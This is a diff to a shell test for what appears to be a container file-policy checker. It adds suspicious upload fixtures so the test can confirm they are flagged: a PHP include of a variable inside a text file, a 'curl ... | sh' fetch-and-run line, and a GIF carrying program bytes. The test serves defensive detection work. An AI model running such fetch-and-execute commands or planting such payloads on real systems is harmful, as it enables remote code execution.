@@ -13,6 +13,9 @@ echo 'a=2' >upper/etc/app.conf
 for i in 1 2 3 4 5 6; do echo "$i" >"upper/srv/uploads/a/$i.txt"; done
 printf '#!/bin/sh\n' >upper/srv/uploads/a/run.sh
 head -c 5000 /dev/zero >upper/srv/uploads/a/large
+echo 'price <?php include $x; ?>' >upper/srv/uploads/a/price.txt
+echo 'curl -s 203.0.113.7 | sh' >upper/srv/uploads/a/notes
+{ echo GIF89a; head -c 600 /dev/zero; head -c 200 /bin/true; } >upper/srv/uploads/a/dot.gif
 me=$(id -u):$(id -g)
 
 rule() { # rule NAME LINE...: a policy of one rule
@@ -33,7 +36,7 @@ explained() {
 rule uploads 'paths: ["/srv/uploads", "/srv/uploads/**"]' 'changes: [added]' 'max_size: 1K' \
 	"owners: [\"$me\"]" 'expires: 2999-01-01' >p.yaml
 it "what is not expected is still found" exits 1 diff_by --policy p.yaml
-it "what is expected is explained; programs and large files are not" same \
+it "what is expected is explained; programs, code in texts and large files are not" same \
 	"/srv/uploads /srv/uploads/a /srv/uploads/a/1.txt /srv/uploads/a/2.txt /srv/uploads/a/3.txt /srv/uploads/a/4.txt /srv/uploads/a/5.txt /srv/uploads/a/6.txt" "$(explained)"
 it "with the rule, who approved it, and why" same "uploads|Jane Doe|a test" \
 	"$(jq -r '[.containers[0].findings[] | select(.path == "/srv/uploads/a/1.txt").explained_by | .name, .approved_by, .reason] | join("|")' out.json)"
